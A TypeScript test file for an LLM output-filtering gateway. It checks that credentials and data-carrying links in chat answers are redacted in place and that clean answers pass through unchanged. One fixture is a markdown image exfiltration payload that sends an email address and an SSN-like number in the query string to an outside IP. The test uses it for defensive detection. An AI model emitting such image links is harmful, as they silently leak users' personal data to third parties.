import OpenAI from 'openai';
import t from 'tap';
import { completion, fakeUpstream, sendJson } from '../helpers/fake-upstream.js';
import { startTestGateway } from '../helpers/gateway.js';
import { credentialSamples } from './fixtures/credential-samples.js';

interface Verdict {
  bastion?: { action: string; stage: string; reasons: { layer: string; type: string }[] };
}

t.test('a non-streamed chat answer keeps its text: only the credential or the data-carrying link is redacted', async (t) => {
  const upstream = await fakeUpstream(t);
  const gw = await startTestGateway(t, { config: { upstreamBaseUrl: upstream.url } });
  const key = await gw.key('acme', { rate: 1000 });
  const client = new OpenAI({ apiKey: 'sk-app', baseURL: `${gw.proxyUrl}/v1`, defaultHeaders: { 'X-API-Key': key }, maxRetries: 0 });
  const ask = async (answer: string) => {
    upstream.on((_req, res) => sendJson(res, 200, completion({ content: answer })));
    return client.chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'How do I deploy?' }] });
  };

  t.test('every credential type: replaced by its label, the sentence around it kept', async (t) => {
    for (const sample of credentialSamples()) {
      const data = await ask(`First step. ${sample.before}${sample.secret}${sample.after} Then run make release.`);
      const text = data.choices[0].message.content!;
      t.notOk(text.includes(sample.secret), `${sample.type}: the credential is gone`);
      t.ok(text.startsWith('First step. ') && text.endsWith(' Then run make release.'), `${sample.type}: the rest of the answer is kept`);
      t.match(text, /\[REDACTED:[a-z_]+\]/, `${sample.type}: replaced in place`);
      t.equal(data.choices[0].finish_reason, 'content_filter', `${sample.type}: the client can tell the answer was filtered`);
      const bastion = (data as unknown as Verdict).bastion!;
      t.equal(bastion.action, 'redact');
      t.equal(bastion.stage, 'output');
    }
  });

  t.test('two leaks in one answer: both redacted, reported once each', async (t) => {
    const aws = credentialSamples().find((s) => s.type === 'aws_access_key')!.secret;
    const data = await ask(`Key ${aws} and the report ![r](http://203.0.113.7/p.png?d=alice%40example.com%20ssn%20078-05-1120) are ready.`);
    const text = data.choices[0].message.content!;
    t.match(text, /^Key \[REDACTED:aws_access_key\] and the report .*\[REDACTED:[a-z_]+\].* are ready\.$/);
    t.notOk(text.includes('078-05-1120'));
    t.same((data as unknown as Verdict).bastion!.reasons.map((r) => r.layer).sort(), ['phishing', 'secrets']);
  });

  t.test('an answer without leaks is untouched and carries no verdict', async (t) => {
    const data = await ask('Run make release from the repository root.');
    t.equal(data.choices[0].message.content, 'Run make release from the repository root.');
    t.equal(data.choices[0].finish_reason, 'stop');
    t.notOk((data as unknown as Verdict).bastion);
  });
});
